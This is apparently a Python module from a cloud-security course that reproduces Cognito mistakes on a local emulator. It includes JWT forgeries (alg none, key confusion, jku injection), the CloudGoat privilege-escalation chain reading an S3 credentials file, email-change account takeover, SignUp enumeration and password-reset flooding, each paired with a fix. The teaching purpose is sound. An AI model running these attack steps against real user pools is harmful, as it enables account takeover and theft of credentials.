"""Lesson 11's episodes: common Cognito mistakes, each exploited on the lab, fixed, and exploited again.

Every episode is built from plain boto3 calls against the lab and returns objects that print what
happened, so that a notebook shows the story and ``tests/test_mistakes.py`` asserts it: each attack
works against the vulnerable set-up and fails after the fix.

* :func:`jwt_target` and :meth:`JwtTarget.battery` — eleven forged or misused tokens against the
  safe demo API and each deliberately broken variant (:mod:`labkit.course.api`), and which check of
  :class:`~labkit.cognito.jwt.CognitoVerifier` stops each (:func:`stopped_by`).
* :func:`cloudgoat_app` and :func:`cloudgoat_attack` — CloudGoat's *vulnerable_cognito* chain: a
  client id read from the app's JavaScript, self sign-up past a browser-only email check, a custom
  attribute the app client may write, and identity-pool credentials for the "admin" role chosen by
  a rule on that attribute. Three fixes: :func:`refuse_self_sign_up`, :func:`set_write_attributes`,
  :func:`map_roles_by_group`.
* :func:`email_change_app` and :func:`email_takeover` — an app that finds accounts by the
  ``email`` claim, and a user who changes their email to someone else's.
* :func:`sign_up_probe` — what SignUp tells a stranger about who has an account, even with
  PreventUserExistenceErrors ENABLED.
* :func:`secret_client_app` and :func:`what_a_client_secret_allows` — a client secret extracted
  from a mobile app: what it enables, what it does not.
* :func:`stolen_session` — a "logout" that forgets tokens vs RevokeToken, and the revocation gap.
* :class:`SimulatedPage` — tokens in localStorage read by an injected script (a simulation:
  no browser runs).
* :func:`email_until_refused` — the default email sender's daily quota.
* :func:`audit_changes` — what the auditor found before the fixes and no longer finds after.

Everything runs on 127.0.0.1 against lab pools; none of it is aimed at AWS.
"""
from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from typing import Any, Callable, Iterable

from botocore.exceptions import ClientError

from ..cognito import session
from ..cognito.jwt import CognitoVerifier, JwtVerificationError, inspect
from ..cognito.jwt.verifier import Verification
from . import forgeries
from .api import FLAG_CHECK, VULNERABILITIES
from .display import ShowsAsTable, Table
from .setups import create_role, identity_pool
from .userpool import UserPoolSetup, create_user_pool

__all__ = ["PASSWORD", "Outcome", "Episode", "JwtTarget", "jwt_target", "BATTERY", "Battery", "stopped_by",
           "CloudGoatApp", "PORTAL_WRITE_ATTRIBUTES", "cloudgoat_app", "cloudgoat_attack", "refuse_self_sign_up",
           "set_write_attributes",
           "map_roles_by_group", "update_user_pool", "EmailChangeApp", "email_change_app", "email_takeover",
           "require_verification_before_update", "sign_up_probe", "SecretClientApp", "secret_client_app",
           "what_a_client_secret_allows", "stolen_session", "SimulatedPage", "email_until_refused",
           "audit_changes"]

PASSWORD = "Correct-Horse-Battery-11"


# -- how episodes report ------------------------------------------------------------------------
@dataclass
class Outcome:
    """One step of an episode: what was tried, whether it worked, what came back."""

    step: str
    worked: bool
    detail: str

    def __str__(self) -> str:
        return f"{'WORKED ' if self.worked else 'refused'}  {self.step}: {self.detail}"


class Episode(ShowsAsTable):
    """The steps of one attack, in order. ``succeeded``: the attacker reached the goal."""

    def __init__(self, title: str, goal: str) -> None:
        self.title = title
        self.goal = goal
        self.steps: list[Outcome] = []
        self.succeeded = False
        self.loot: dict[str, Any] = {}

    def ok(self, step: str, detail: str) -> None:
        self.steps.append(Outcome(step, True, detail))

    def refused(self, step: str, detail: str) -> None:
        self.steps.append(Outcome(step, False, detail))

    def step(self, name: str) -> Outcome | None:
        return next((s for s in self.steps if s.step == name), None)

    def table(self) -> Table:
        verdict = f"GOAL REACHED: {self.goal}" if self.succeeded else f"goal not reached ({self.goal})"
        return Table(["", "step", "what happened"],
                     [["✓" if s.worked else "✗", s.step, s.detail] for s in self.steps],
                     title=self.title, note=verdict, widths=[None, 34, 56])


def _error(exc: ClientError) -> str:
    return f"{exc.response['Error']['Code']}: {exc.response['Error']['Message']}"


def update_user_pool(idp, pool_id: str, **changes: Any) -> dict:
    """UpdateUserPool that keeps the pool's other settings.

    On AWS, UpdateUserPool sets every setting you leave out back to its default, so the safe way to
    change one setting is read (DescribeUserPool), change, write everything back. Returns the
    DescribeUserPool ``UserPool`` after the update.
    """
    pool = idp.describe_user_pool(UserPoolId=pool_id)["UserPool"]
    keep = ("Policies", "AutoVerifiedAttributes", "UserAttributeUpdateSettings", "MfaConfiguration",
            "EmailConfiguration", "AdminCreateUserConfig", "AccountRecoverySetting", "DeletionProtection",
            "UserPoolAddOns", "VerificationMessageTemplate")
    settings = {k: pool[k] for k in keep if pool.get(k) not in (None, {}, [])}
    if "AdminCreateUserConfig" in settings:
        settings["AdminCreateUserConfig"] = {k: v for k, v in settings["AdminCreateUserConfig"].items()
                                             if k != "UnusedAccountValidityDays"}
    settings.update(changes)
    idp.update_user_pool(UserPoolId=pool_id, **settings)
    return idp.describe_user_pool(UserPoolId=pool_id)["UserPool"]


# -- 1. the JWT battery -------------------------------------------------------------------------------
#: Each forgery (or misused token), and the flags of the one broken API variant built to accept it.
BATTERY: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("tampered payload", ("skip_signature",)),
    ("alg none", ("accept_alg_none",)),
    ("HS256 with the public key", ("trust_header_alg",)),
    ("embedded jwk", ("trust_header_jwk",)),
    ("jku injection", ("trust_header_jku",)),
    ("kid traversal to /dev/null", ("kid_path_traversal",)),
    ("cracked session secret", ("weak_session_secret",)),
    ("expired", ("ignore_expiry",)),
    ("another pool", ("ignore_issuer", "ignore_client")),
    ("wrong client", ("ignore_client",)),
    ("ID token", ("accept_id_tokens",)),
)

_ADMIN = {"cognito:groups": ["admin"], "username": "mallory"}


def stopped_by(verifier: CognitoVerifier, token: str) -> tuple[str | None, JwtVerificationError | None]:
    """Run ``verifier``'s checks in order on ``token``: the name of the first that refuses it and
    its error, or ``(None, None)`` when every check passes."""
    v = Verification(token, verifier)
    for name, check in verifier.checks.items():
        try:
            check(v)
        except JwtVerificationError as error:
            return name, error
    return None, None


@dataclass
class JwtTarget:
    """A shop's user pool (app clients ``web`` and ``other-app``; users alice and root, root in
    group admin), a second pool ``elsewhere``, and the API every forgery is aimed at."""

    lab: Any = field(repr=False)
    shop: UserPoolSetup
    other_client_id: str
    elsewhere: UserPoolSetup

    def sign_in(self, username: str = "alice", *, client_id: str | None = None) -> dict:
        setup = self.shop
        if client_id == self.elsewhere.client_id:
            setup = self.elsewhere
        return session.sign_in_password(setup.idp, client_id or setup.client_id, username, PASSWORD)

    def api(self, **flags: bool):
        """``lab.protected_api`` for the shop's web client, with the named flags switched on."""
        return self.lab.protected_api(self.shop.pool_id, self.shop.client_id, **flags)

    def verifier(self) -> CognitoVerifier:
        return self.lab.verifier(self.shop.pool_id, self.shop.client_id)

    def forge(self, kind: str) -> str:
        """One token of ``kind`` (see :data:`BATTERY`), made from a real token of alice's.
        ``expired`` moves the lab clock 61 minutes on."""
        lab, token = self.lab, self.sign_in()["AccessToken"]
        if kind == "tampered payload":
            return forgeries.tamper(token, _ADMIN)
        if kind == "alg none":
            return forgeries.forge_alg_none(token, _ADMIN)
        if kind == "HS256 with the public key":
            pem = forgeries.public_key_pem(lab.user_pool_jwks(self.shop.pool_id), kid=inspect(token).header["kid"])
            return forgeries.forge_hs256(token, pem, _ADMIN)
        if kind == "embedded jwk":
            return forgeries.forge_embedded_jwk(token, claims=_ADMIN)
        if kind == "jku injection":
            attacker = forgeries.AttackerKey()
            lab.on_stop(attacker.stop)
            return forgeries.forge_jku(token, attacker, claims=_ADMIN)
        if kind == "kid traversal to /dev/null":
            return forgeries.forge_kid_traversal(token, claims=_ADMIN)
        if kind == "cracked session secret":
            weak = self.api(weak_session_secret=True)
            session_token = weak.call("/session", token).body["session_token"]
            return forgeries.forge_hs256(session_token, forgeries.crack_hs256(session_token), _ADMIN)
        if kind == "expired":
            lab.clock.advance(minutes=61)
            return token
        if kind == "another pool":
            return self.sign_in(client_id=self.elsewhere.client_id)["AccessToken"]
        if kind == "wrong client":
            return self.sign_in(client_id=self.other_client_id)["AccessToken"]
        if kind == "ID token":
            return self.sign_in()["IdToken"]
        raise KeyError(f"no forgery {kind!r}; the forgeries are {', '.join(k for k, _ in BATTERY)}")

    def battery(self, kinds: Iterable[str] | None = None) -> "Battery":
        """Every forgery against the safe API and against one API per vulnerable flag (plus the
        pair ``ignore_issuer+ignore_client``), on ``GET /hello``; and the check that stops it."""
        variants = {"safe": self.api()}
        for flag in VULNERABILITIES:
            variants[flag] = self.api(**{flag: True})
        variants["ignore_issuer+ignore_client"] = self.api(ignore_issuer=True, ignore_client=True)
        verifier = self.verifier()
        rows = []
        for kind, flags in BATTERY:
            if kinds is not None and kind not in kinds:
                continue
            token = self.forge(kind)
            statuses = {name: api.call("/hello", token).status for name, api in variants.items()}
            check, error = stopped_by(verifier, token)
            rows.append(BatteryRow(kind, "+".join(flags), statuses, check, type(error).__name__ if error else "-"))
        for api in variants.values():
            api.stop()
        return Battery(rows)


@dataclass
class BatteryRow:
    forgery: str
    built_for: str                 # the variant the forgery was made for
    statuses: dict[str, int]       # variant -> HTTP status on GET /hello
    stopped_by: str | None         # the CognitoVerifier check that refuses it
    error: str

    @property
    def accepted_by(self) -> list[str]:
        return [name for name, status in self.statuses.items() if status == 200]


class Battery(ShowsAsTable):
    """The outcome of :meth:`JwtTarget.battery`: one row per forgery. ``matrix()`` shows every
    variant's status."""

    def __init__(self, rows: list[BatteryRow]) -> None:
        self.rows = rows

    def row(self, forgery: str) -> BatteryRow:
        return next(r for r in self.rows if r.forgery == forgery)

    def table(self) -> Table:
        return Table(
            ["forgery", "safe API", "accepted by (200)", "every other",
             "check that stops it"],
            [[r.forgery, r.statuses["safe"], ", ".join(r.accepted_by) or "-",
              "all 401" if all(s == 401 for n, s in r.statuses.items() if n not in r.accepted_by) else "MIXED",
              f"{r.stopped_by} ({r.error})"] for r in self.rows],
            title="The JWT battery: GET /hello with each forged token",
            note="Each broken variant has one verification mistake (labkit.course.api.VULNERABILITIES). "
                 "skip_signature also believes RS256 tokens signed with the attacker's own key. The last "
                 "column is the CognitoVerifier check (and error class) that refuses the forgery.",
            widths=[None, None, 24, 11, 22])

    def matrix(self) -> Table:
        """Forgery × variant: the HTTP status of every call."""
        names = list(self.rows[0].statuses) if self.rows else []
        return Table(["forgery"] + names, [[r.forgery] + [r.statuses[n] for n in names] for r in self.rows],
                     title="Forgery × API variant (HTTP status of GET /hello)")


def jwt_target(lab) -> JwtTarget:
    """The pools and users the JWT battery needs (see :class:`JwtTarget`)."""
    shop = create_user_pool(lab, "shop", client_name="web")
    other = shop.idp.create_user_pool_client(
        UserPoolId=shop.pool_id, ClientName="other-app",
        ExplicitAuthFlows=["ALLOW_USER_PASSWORD_AUTH", "ALLOW_REFRESH_TOKEN_AUTH"])["UserPoolClient"]["ClientId"]
    shop.add_user("alice", PASSWORD, email="alice@example.com")
    shop.add_user("root", PASSWORD, email="root@example.com", groups=["admin"])
    elsewhere = create_user_pool(lab, "elsewhere", client_name="web")
    elsewhere.add_user("alice", PASSWORD, email="alice@example.org")
    return JwtTarget(lab, shop, other, elsewhere)


# -- 2. CloudGoat's vulnerable_cognito ----------------------------------------------------------------
APP_JS = """\
// main.js, served to every visitor of https://portal.example.com
const poolData = {{
  UserPoolId: "{pool_id}",
  ClientId: "{client_id}",          // public: every browser has it
}};
const identityPoolId = "{identity_pool_id}";

function signUp(email, password) {{
  if (!email.endsWith("@{domain}")) {{          // employees only... in the browser
    return showError("Sign-up is for {domain} addresses only.");
  }}
  return userPool.signUp(email, password, [{{ Name: "email", Value: email }}]);
}}
"""


@dataclass
class CloudGoatApp:
    """An employee portal: a user pool (custom attribute ``custom:access``), an app client, an
    identity pool whose rule gives ``custom:access = admin`` the admin role, and the app's JavaScript."""

    lab: Any = field(repr=False)
    users: UserPoolSetup
    ids: Any
    reader_role: str
    admin_role: str
    bucket: str
    domain: str = "ensign.example"

    @property
    def javascript(self) -> str:
        """What any visitor's browser downloads."""
        return APP_JS.format(pool_id=self.users.pool_id, client_id=self.users.client_id,
                             identity_pool_id=self.ids.id, domain=self.domain)

    def client_settings(self) -> dict:
        return self.users.idp.describe_user_pool_client(UserPoolId=self.users.pool_id,
                                                        ClientId=self.users.client_id)["UserPoolClient"]


#: The vulnerable client's WriteAttributes: every writable standard attribute and custom:access.
PORTAL_WRITE_ATTRIBUTES: tuple[str, ...] = (
    "address", "birthdate", "email", "family_name", "gender", "given_name", "locale", "middle_name", "name",
    "nickname", "phone_number", "picture", "preferred_username", "profile", "updated_at", "website",
    "zoneinfo", "custom:access")


def cloudgoat_app(lab) -> CloudGoatApp:
    """Build the vulnerable portal: self sign-up allowed, a client whose ``WriteAttributes`` list every
    attribute (:data:`PORTAL_WRITE_ATTRIBUTES`, ``custom:access`` included: what ticking "all
    attributes" in the console gives), role mapping Rules on ``custom:access``. An employee, kirk,
    exists. The list is explicit so that the exploit is the same on AWS, whose default for a client
    without WriteAttributes is the standard attributes only (the lab's default differs, see
    :mod:`labkit.emulator.user_pools.attributes`)."""
    users = create_user_pool(lab, "ensign-portal", client_name="portal-web",
                             client_options={"WriteAttributes": list(PORTAL_WRITE_ATTRIBUTES)},
                             AutoVerifiedAttributes=["email"], UsernameAttributes=["email"],
                             Schema=[{"Name": "access", "AttributeDataType": "String", "Mutable": True}])
    users.add_user("kirk@ensign.example", PASSWORD, email="kirk@ensign.example", attributes={"custom:access": "reader"})
    ids = identity_pool(lab, users, name="ensign_portal")
    bucket = "ensign-secrets"
    s3 = lab.client("s3")
    s3.create_bucket(Bucket=bucket)
    s3.put_object(Bucket=bucket, Key="reports/weekly.txt", Body=b"Weekly report: all quiet.")
    s3.put_object(Bucket=bucket, Key="admin/credentials.txt", Body=b"root password of the plant: hunter2")
    read_reports = {"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{bucket}/reports/*"}]}
    everything = {"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Action": ["s3:GetObject", "s3:ListBucket"],
         "Resource": [f"arn:aws:s3:::{bucket}", f"arn:aws:s3:::{bucket}/*"]}]}
    reader = create_role(lab, "PortalReaderRole", ids.id, read_reports, policy_name="read-reports")
    admin = create_role(lab, "PortalAdminRole", ids.id, everything, policy_name="read-everything")
    ids.set_roles(authenticated=reader, role_mappings={ids.role_mapping_key: {
        "Type": "Rules", "AmbiguousRoleResolution": "AuthenticatedRole",
        "RulesConfiguration": {"Rules": [
            {"Claim": "custom:access", "MatchType": "Equals", "Value": "admin", "RoleARN": admin}]}}})
    return CloudGoatApp(lab, users, ids, reader, admin, bucket)


def cloudgoat_attack(app: CloudGoatApp, *, email: str = "mallory@evil.example",
                     insider: tuple[str, str] | None = None) -> Episode:
    """The chain, as the attacker runs it from their own machine (no browser, so no browser check).

    ``insider``: (username, password) of an account the attacker already has, to try the later
    steps when self sign-up is closed.
    """
    lab = app.lab
    idp = lab.client("cognito-idp")       # unauthenticated calls need no AWS credentials
    episode = Episode("CloudGoat vulnerable_cognito, on the lab", "credentials for the admin role")
    found = re.search(r'ClientId:\s*"([0-9a-z]+)"', app.javascript)
    client_id = found.group(1)
    episode.ok("read the client id in main.js", f"found it ({len(client_id)} characters): any visitor can")
    username, password = insider or (email, PASSWORD)
    if insider is None:
        try:
            idp.sign_up(ClientId=client_id, Username=email, Password=password,
                        UserAttributes=[{"Name": "email", "Value": email}])
            code = lab.inbox(email).latest.code
            idp.confirm_sign_up(ClientId=client_id, Username=email, ConfirmationCode=code)
            episode.ok("SignUp with a non-employee email", f"{email} signed up and confirmed with the "
                       "code from their own inbox: the domain check ran only in the browser")
        except ClientError as exc:
            episode.refused("SignUp with a non-employee email", _error(exc))
            return episode
    tokens = session.sign_in_password(idp, client_id, username, password)
    try:
        idp.update_user_attributes(AccessToken=tokens["AccessToken"],
                                   UserAttributes=[{"Name": "custom:access", "Value": "admin"}])
        episode.ok("UpdateUserAttributes custom:access=admin", "accepted: the app client may write it")
    except ClientError as exc:
        episode.refused("UpdateUserAttributes custom:access=admin", _error(exc))
    id_token = session.refresh(idp, client_id, tokens["RefreshToken"])["IdToken"]
    claims = inspect(id_token).claims
    episode.loot["claims"] = {k: claims.get(k) for k in ("custom:access", "cognito:groups")}
    try:
        creds = app.ids.credentials(id_token)["Credentials"]
    except ClientError as exc:
        episode.refused("GetId + GetCredentialsForIdentity", _error(exc))
        return episode
    arn = lab.client("sts", credentials=creds).get_caller_identity()["Arn"]
    role = arn.split("/")[1]
    episode.loot["role"] = role
    if role == "PortalAdminRole":
        episode.ok("GetCredentialsForIdentity", f"role {role} (custom:access={claims.get('custom:access')!r})")
    else:
        episode.refused("GetCredentialsForIdentity", f"role {role} only (custom:access="
                        f"{claims.get('custom:access')!r}, groups={claims.get('cognito:groups', [])})")
    s3 = lab.client("s3", credentials=creds)
    try:
        secret = s3.get_object(Bucket=app.bucket, Key="admin/credentials.txt")["Body"].read().decode()
        episode.ok("read s3://ensign-secrets/admin/credentials.txt", repr(secret))
        episode.succeeded = True
    except ClientError as exc:
        episode.refused("read s3://ensign-secrets/admin/credentials.txt", exc.response["Error"]["Code"])
    return episode


def refuse_self_sign_up(app: CloudGoatApp) -> dict:
    """AdminCreateUserConfig.AllowAdminCreateUserOnly: only administrators create users (SignUp is
    refused whatever the browser does). Returns the pool's AdminCreateUserConfig."""
    pool = update_user_pool(app.users.idp, app.users.pool_id,
                            AdminCreateUserConfig={"AllowAdminCreateUserOnly": True})
    return pool["AdminCreateUserConfig"]


def set_write_attributes(app: CloudGoatApp, write_attributes: list[str]) -> list[str]:
    """UpdateUserPoolClient with ``WriteAttributes`` (keeping the client's other settings). Returns
    the client's WriteAttributes as Cognito stored them."""
    idp, client = app.users.idp, app.client_settings()
    if not isinstance(write_attributes, (list, tuple)) or not all(isinstance(a, str) for a in write_attributes):
        raise TypeError("write_attributes is a list of attribute names, e.g. [\"name\", \"email\"]")
    keep = {k: client[k] for k in ("ClientName", "ExplicitAuthFlows", "ReadAttributes", "PreventUserExistenceErrors",
                                    "EnableTokenRevocation") if k in client}
    idp.update_user_pool_client(UserPoolId=app.users.pool_id, ClientId=app.users.client_id,
                                WriteAttributes=list(write_attributes), **keep)
    return app.client_settings().get("WriteAttributes", [])


def map_roles_by_group(app: CloudGoatApp) -> dict:
    """The admin role through a group only administrators manage: group ``admins`` carries the
    role (``cognito:preferred_role`` in the ID token), the identity pool's mapping becomes Token,
    kirk stays a reader. Returns the new RoleMappings entry."""
    idp = app.users.idp
    idp.create_group(UserPoolId=app.users.pool_id, GroupName="admins", RoleArn=app.admin_role, Precedence=0)
    mapping = {"Type": "Token", "AmbiguousRoleResolution": "AuthenticatedRole"}
    ci = app.lab.client("cognito-identity")
    roles = ci.get_identity_pool_roles(IdentityPoolId=app.ids.id)["Roles"]
    ci.set_identity_pool_roles(IdentityPoolId=app.ids.id, Roles=roles,
                               RoleMappings={app.ids.role_mapping_key: mapping})
    return mapping


# -- 3. email change takeover ---------------------------------------------------------------------------
@dataclass
class EmailChangeApp:
    """A forum whose back end finds a member's account by the ``email`` claim of their ID token."""

    lab: Any = field(repr=False)
    users: UserPoolSetup
    accounts: dict[str, str]

    def account_for(self, id_token: str) -> str:
        """The mistake: the account is looked up by ``email``, verified or not (the token itself is
        verified, so the back end thinks it can trust it)."""
        claims = self.lab.verifier(self.users.pool_id, self.users.client_id, token_use="id").verify(id_token)
        return self.accounts.get(claims.get("email"), "no account")


def email_change_app(lab, *, name: str = "forum") -> EmailChangeApp:
    """Users alice (the forum's owner) and mallory, emails verified; email is auto-verified."""
    users = create_user_pool(lab, name, AutoVerifiedAttributes=["email"])
    users.add_user("alice", PASSWORD, email="alice@example.com")
    users.add_user("mallory", PASSWORD, email="mallory@evil.example")
    accounts = {"alice@example.com": "alice's account (owner: can delete every board)",
                "mallory@evil.example": "mallory's account (member)"}
    return EmailChangeApp(lab, users, accounts)


def require_verification_before_update(app: EmailChangeApp, settings: dict) -> dict:
    """UpdateUserPool with ``UserAttributeUpdateSettings=settings`` (other settings kept)."""
    if not isinstance(settings, dict):
        raise TypeError('settings is a dict like {"AttributesRequireVerificationBeforeUpdate": [...]}')
    pool = update_user_pool(app.users.idp, app.users.pool_id, UserAttributeUpdateSettings=settings)
    return pool.get("UserAttributeUpdateSettings", {})


def email_takeover(app: EmailChangeApp, victim_email: str = "alice@example.com") -> Episode:
    """mallory changes her email to the victim's and asks the forum who she is."""
    idp, users = app.users.idp, app.users
    episode = Episode("Email change takeover", f"the forum gives mallory the account of {victim_email}")
    tokens = users.sign_in("mallory", PASSWORD)
    episode.ok("mallory signs in", f"the forum says: {app.account_for(tokens['IdToken'])}")
    try:
        idp.update_user_attributes(AccessToken=tokens["AccessToken"],
                                   UserAttributes=[{"Name": "email", "Value": victim_email}])
        episode.ok("UpdateUserAttributes email", f"accepted; a code went to {victim_email}, who ignores it")
    except ClientError as exc:
        episode.refused("UpdateUserAttributes email", _error(exc))
        return episode
    fresh = users.refresh(tokens["RefreshToken"])["IdToken"]
    claims = inspect(fresh).claims
    episode.loot["claims"] = {"email": claims.get("email"), "email_verified": claims.get("email_verified")}
    account = app.account_for(fresh)
    detail = f"email={claims.get('email')!r}, email_verified={claims.get('email_verified')!r}: {account}"
    if claims.get("email") == victim_email:
        episode.ok("new ID token, then ask the forum", detail)
        episode.succeeded = True
    else:
        episode.refused("new ID token, then ask the forum", detail)
    return episode


# -- 4. enumeration through SignUp -------------------------------------------------------------------
def sign_up_probe(idp, client_id: str, emails: Iterable[str], *, username: Callable[[str], str] | None = None,
                  title: str = "What SignUp tells a stranger") -> Table:
    """Try SignUp with each email (and InitiateAuth with a wrong password) and tabulate the answers.

    ``username(email)`` is the username the app sends (default: the email itself, as when emails
    are usernames). Every probe that succeeds creates an unconfirmed user and emails a code, as on AWS.
    """
    rows = []
    for email in emails:
        name = username(email) if username else email
        try:
            idp.sign_up(ClientId=client_id, Username=name, Password=PASSWORD,
                        UserAttributes=[{"Name": "email", "Value": email}])
            sign_up = "code sent (as for anyone new)"
        except ClientError as exc:
            sign_up = exc.response["Error"]["Code"]
        try:
            idp.initiate_auth(ClientId=client_id, AuthFlow="USER_PASSWORD_AUTH",
                              AuthParameters={"USERNAME": email, "PASSWORD": "wrong-Passw0rd!"})
            sign_in = "signed in?!"
        except ClientError as exc:
            sign_in = exc.response["Error"]["Code"]
        rows.append([email, sign_in, sign_up])
    return Table(["email tried", "InitiateAuth, wrong password", "SignUp"], rows, title=title)


# -- 5. a client secret in a mobile app -------------------------------------------------------------------
@dataclass
class SecretClientApp:
    lab: Any = field(repr=False)
    users: UserPoolSetup
    app_config: str            # what `strings` on the app package shows

    def extracted_secret(self) -> str:
        return re.search(r'"ClientSecret":\s*"([^"]+)"', self.app_config).group(1)


def secret_client_app(lab) -> SecretClientApp:
    """A pool whose mobile app uses a confidential client (with a secret) and ships the secret."""
    users = create_user_pool(lab, "fitness", client_name="ios-app", generate_secret=True,
                             AutoVerifiedAttributes=["email"])
    users.add_user("alice", PASSWORD, email="alice@example.com")
    config = json.dumps({"Region": lab.region, "UserPoolId": users.pool_id, "ClientId": users.client_id,
                         "ClientSecret": users.client_secret}, indent=2)
    return SecretClientApp(lab, users, config)


def what_a_client_secret_allows(app: SecretClientApp) -> Table:
    """Calls a stranger makes without and with the extracted secret."""
    idp, client_id = app.lab.client("cognito-idp"), app.users.client_id
    secret = app.extracted_secret()
    rows = []

    def attempt(what: str, with_secret: bool, call: Callable[[dict], Any]) -> None:
        def hashed(username):
            return {"SecretHash": session.secret_hash(username, client_id, secret)} if with_secret else {}
        try:
            call(hashed)
            outcome = "works"
        except ClientError as exc:
            outcome = _error(exc)
        rows.append([what, "with" if with_secret else "without", outcome])

    for with_secret in (False, True):
        name = "bot1" if with_secret else "bot0"
        attempt("SignUp a new account", with_secret, lambda h: idp.sign_up(
            ClientId=client_id, Username=name, Password=PASSWORD,
            UserAttributes=[{"Name": "email", "Value": f"{name}@evil.example"}], **h(name)))
    attempt("ForgotPassword for alice (emails her a code)", True, lambda h: idp.forgot_password(
        ClientId=client_id, Username="alice", **h("alice")))
    attempt("sign in as alice, guessed password", True, lambda h: idp.initiate_auth(
        ClientId=client_id, AuthFlow="USER_PASSWORD_AUTH",
        AuthParameters={"USERNAME": "alice", "PASSWORD": "Summer2024!", "SECRET_HASH": h("alice")["SecretHash"]}))
    return Table(["call", "client secret", "answer"], rows, title="What the extracted client secret changes",
                 widths=[None, None, 38])


# -- 6. logout that only forgets --------------------------------------------------------------------
def stolen_session(lab, users: UserPoolSetup, tokens: dict, *, logout: Callable[[dict], Any] | None = None,
                   api=None) -> Episode:
    """The device's tokens were copied (a backup, malware, a shared computer), then the user logged
    out with ``logout(tokens)`` (default: the app just forgets them). What do the copies still do?"""
    stolen = dict(tokens)
    episode = Episode("After logout, with the copied tokens", "the copied tokens still work")
    if logout is not None:
        logout(tokens)
    idp = lab.client("cognito-idp")
    worked = []
    try:
        me = idp.get_user(AccessToken=stolen["AccessToken"])
        episode.ok("GetUser with the copied access token", f"Cognito answers: user {me['Username']}")
        worked.append(True)
    except ClientError as exc:
        episode.refused("GetUser with the copied access token", _error(exc))
    try:
        fresh = users.refresh(stolen["RefreshToken"])
        episode.ok("REFRESH_TOKEN_AUTH with the copied refresh token", "new ID and access tokens for an hour")
        episode.loot["fresh"] = fresh
        worked.append(True)
    except ClientError as exc:
        episode.refused("REFRESH_TOKEN_AUTH with the copied refresh token", _error(exc))
    if api is not None:
        response = api.call("/hello", stolen["AccessToken"])
        (episode.ok if response.status == 200 else episode.refused)(
            "an API that verifies the JWT locally", f"HTTP {response.status} (the revocation gap: the "
            "signature and exp are still fine)" if response.status == 200 else f"HTTP {response.status}")
    episode.succeeded = bool(worked)
    return episode


# -- 7. tokens in localStorage, read by an injected script (simulation) ---------------------------------------
class SimulatedPage:
    """SIMULATION of a single-page app's JavaScript world: no browser runs here.

    ``local_storage`` stands for ``window.localStorage`` (readable by every script of the origin,
    kept across restarts); ``memory`` for variables inside the app's own module (not reachable by
    name from another script, gone on reload); ``http_only_cookie`` for a session cookie that a
    back end for front end (BFF) set with HttpOnly (sent by the browser, never visible to scripts).
    :meth:`run_injected_script` plays an injected ``<script>`` (XSS, a compromised npm package) that
    reads what any script can read and sends it to the attacker.
    """

    def __init__(self, storage: str = "localStorage") -> None:
        if storage not in ("localStorage", "memory+bff"):
            raise ValueError('storage is "localStorage" or "memory+bff"')
        self.storage = storage
        self.local_storage: dict[str, str] = {}
        self.memory: dict[str, str] = {}
        self.http_only_cookie: str | None = None

    def sign_in(self, tokens: dict) -> None:
        if self.storage == "localStorage":       # what many tutorials (and SDK defaults) do
            for name in ("IdToken", "AccessToken", "RefreshToken"):
                self.local_storage[f"CognitoIdentityServiceProvider.{name}"] = tokens[name]
        else:                                     # refresh token kept by the BFF, behind the cookie
            self.memory.update({k: tokens[k] for k in ("IdToken", "AccessToken")})
            self.http_only_cookie = "session=opaque-id; HttpOnly; Secure; SameSite=Strict"

    def run_injected_script(self) -> dict:
        """What ``Object.entries(localStorage)`` + ``document.cookie`` give an injected script."""
        readable_cookie = None if self.http_only_cookie else ""
        return {"localStorage": dict(self.local_storage), "document.cookie": readable_cookie or ""}

    def __repr__(self) -> str:
        return f"<SimulatedPage (SIMULATION, no browser) tokens in {self.storage}>"


# -- 8. the default email sender's quota ------------------------------------------------------------------
def email_until_refused(lab, users: UserPoolSetup, username: str, *, most: int = 60) -> tuple[int, str | None]:
    """Ask ForgotPassword for ``username`` until Cognito refuses (at most ``most`` times).
    Returns (emails sent by these calls, the refusal or None)."""
    sent = 0
    for _ in range(most):
        try:
            users.idp.forgot_password(ClientId=users.client_id, Username=username)
            sent += 1
        except ClientError as exc:
            return sent, _error(exc)
    return sent, None


# -- the audit, before and after ---------------------------------------------------------------------------
def audit_changes(before: dict[str, Any], after: dict[str, Any]) -> Table:
    """For each audited pool (name → AuditReport before / after): how many findings, which check
    ids the fixes removed, and which are still found (high ones first)."""
    rows = []
    for name, report in before.items():
        later = after[name]
        was = {(f.check, f.resource) for f in report.findings}
        now = {(f.check, f.resource) for f in later.findings}
        fixed = sorted({check for check, _ in was - now})
        left = [f.check + (" (high)" if f.severity == "high" else "") for f in later.findings]
        rows.append([name, len(report.findings), len(later.findings), ", ".join(fixed) or "-",
                     ", ".join(dict.fromkeys(left)) or "-"])
    # Narrow wrapped columns keep the table within 100 characters (a notebook's width).
    return Table(["pool", "before", "after", "fixed", "still found"], rows,
                 title="The auditor, before and after the fixes (findings)", widths=[None, None, None, 28, 36])
